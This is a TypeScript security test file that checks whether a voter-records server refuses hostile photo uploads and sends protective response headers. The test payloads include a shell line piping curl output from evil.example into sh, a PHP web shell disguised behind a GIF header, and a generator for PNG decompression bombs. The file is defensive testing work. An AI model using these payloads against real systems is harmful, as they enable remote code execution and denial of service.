import { readdirSync } from 'node:fs';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import sharp from 'sharp';
import { createTestApp, type TestApp } from '../support/test-app';
import { type FilePart, multipart, tinyImage, voterForm } from '../voters/voter-test-helpers';
import { type Caller, databaseChecksum, signIn } from './security-fixtures';

// Photo attacks beyond those of server/test/voters/voters-photo.test.ts (a text file renamed
// .jpg, fake magic bytes, SVG, an over-limit padded file): each is refused cleanly, quickly,
// nothing is stored, and the server keeps answering.
let t: TestApp;
let admin: Caller;

beforeAll(async () => {
  t = await createTestApp();
  admin = await signIn(t, 'Admin');
});
afterAll(async () => t.close());

function storedFiles(): string[] {
  try {
    return readdirSync(path.join(t.database.dataDir, 'uploads', 'voters'));
  } catch {
    return [];
  }
}

async function createWith(file: FilePart) {
  const form = multipart(voterForm(), file);
  return t.app.inject({ method: 'POST', url: '/api/voters', headers: { ...admin.headers, ...form.headers }, payload: form.payload });
}

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) crc = (CRC_TABLE[(crc ^ byte) & 0xff] as number) ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}
function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

// A decompression bomb: a valid PNG of width × height black grey pixels whose compressed
// data is tiny (all-zero rows deflate to almost nothing).
function bombPng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bit depth
  header[9] = 0; // greyscale
  const raw = Buffer.alloc((width + 1) * height); // filter byte + pixels, all zero
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', header), pngChunk('IDAT', deflateSync(raw, { level: 9 })), pngChunk('IEND', Buffer.alloc(0))]);
}

describe('photo attacks', () => {
  async function expectRefused(file: FilePart, status: number, within: number): Promise<void> {
    const files = storedFiles().length;
    const before = await databaseChecksum(t);
    const started = Date.now();
    const response = await createWith(file);
    expect(Date.now() - started).toBeLessThan(within);
    expect(response.statusCode, response.body).toBe(status);
    expect(typeof response.json<{ message: string }>().message).toBe('string');
    expect(await databaseChecksum(t)).toBe(before);
    expect(storedFiles()).toHaveLength(files);
    expect((await t.app.inject({ method: 'GET', url: '/api/health' })).statusCode).toBe(200);
  }

  it('should refuse a shell script renamed to photo.jpg when it is uploaded as an image', async () => {
    await expectRefused({ filename: 'photo.jpg', contentType: 'image/jpeg', data: Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n') }, 400, 3000);
  });

  it('should refuse a GIF header followed by PHP when the body is a script in disguise', async () => {
    await expectRefused({ filename: 'photo.gif', contentType: 'image/gif', data: Buffer.from('GIF89a<?php system($_GET["c"]); ?>') }, 400, 3000);
  });

  it('should refuse a truncated JPEG and a truncated PNG when the bytes stop half way', async () => {
    const jpeg = await tinyImage('jpeg', { width: 300, height: 200 });
    await expectRefused({ filename: 'cut.jpg', contentType: 'image/jpeg', data: jpeg.subarray(0, Math.floor(jpeg.length / 2)) }, 400, 3000);
    const png = await tinyImage('png', { width: 300, height: 200 });
    await expectRefused({ filename: 'cut.png', contentType: 'image/png', data: png.subarray(0, Math.floor(png.length / 2)) }, 400, 3000);
  });

  it('should refuse a decompression bomb quickly when a small PNG decodes to more than 40 megapixels', async () => {
    const bomb = bombPng(7000, 7000); // 49 megapixels from a file of a few tens of kilobytes
    expect(bomb.length).toBeLessThan(200_000);
    await expectRefused({ filename: 'bomb.png', contentType: 'image/png', data: bomb }, 400, 3000);
  });

  it('should refuse a PNG whose header claims 100,000 × 100,000 pixels when the data is tiny', async () => {
    await expectRefused({ filename: 'huge.png', contentType: 'image/png', data: bombPng(100_000, 1).subarray(0, 8 + 25) }, 400, 3000);
    const claim = bombPng(1, 1);
    claim.writeUInt32BE(100_000, 16);
    claim.writeUInt32BE(100_000, 20);
    claim.writeUInt32BE(crc32(claim.subarray(12, 29)), 29); // a valid IHDR checksum, so only the size is the lie
    await expectRefused({ filename: 'huge.png', contentType: 'image/png', data: claim }, 400, 3000);
  });

  it('should answer 413 to a real 6 MB image when the limit is 5 MB', async () => {
    const noise = Buffer.alloc(1500 * 1400 * 3);
    for (let index = 0; index < noise.length; index += 1) noise[index] = (index * 2654435761) >>> 24;
    const big = await sharp(noise, { raw: { width: 1500, height: 1400, channels: 3 } }).png({ compressionLevel: 0 }).toBuffer();
    expect(big.length).toBeGreaterThan(6 * 1024 * 1024 - 200_000);
    await expectRefused({ filename: 'big.png', contentType: 'image/png', data: big }, 413, 5000);
  });
});

describe('headers on every kind of answer', () => {
  async function photoUrl(): Promise<string> {
    const response = await createWith({ filename: 'ok.png', contentType: 'image/png', data: await tinyImage('png') });
    expect(response.statusCode, response.body).toBe(201);
    return `/api/voters/${response.json<{ id: number }>().id}/photo`;
  }

  it('should send CSP without inline script, anti-framing and no-sniff when the answer is an error, a list or a photo', async () => {
    const field = await signIn(t, 'Karyakarta');
    const answers = [
      await t.app.inject({ method: 'GET', url: '/api/voters' }), // 401
      await t.app.inject({ method: 'GET', url: '/api/audit-logs', headers: field.headers }), // 403
      await t.app.inject({ method: 'POST', url: '/api/tasks', headers: { ...admin.headers, 'content-type': 'application/json' }, payload: '{' }), // 400
      await t.app.inject({ method: 'GET', url: '/api/nothing-here', headers: admin.headers }), // 404
      await t.app.inject({ method: 'GET', url: '/api/voters', headers: admin.headers }), // 200 JSON
      await t.app.inject({ method: 'GET', url: await photoUrl(), headers: admin.headers }), // 200 image
    ];
    expect(answers.map((answer) => answer.statusCode)).toEqual([401, 403, 400, 404, 200, 200]);
    for (const answer of answers) {
      const csp = String(answer.headers['content-security-policy']);
      const scriptSrc = csp.split(';').find((directive) => directive.trim().startsWith('script-src')) ?? '';
      expect(scriptSrc.trim()).toBe("script-src 'self'");
      expect(csp).toContain("frame-ancestors 'none'");
      expect(csp).toContain("object-src 'none'");
      expect(answer.headers['x-content-type-options']).toBe('nosniff');
      expect(answer.headers['x-frame-options']).toBe('SAMEORIGIN');
      expect(String(answer.headers['content-type'])).toMatch(/^(application\/json|image\/webp)/);
    }
  });
});
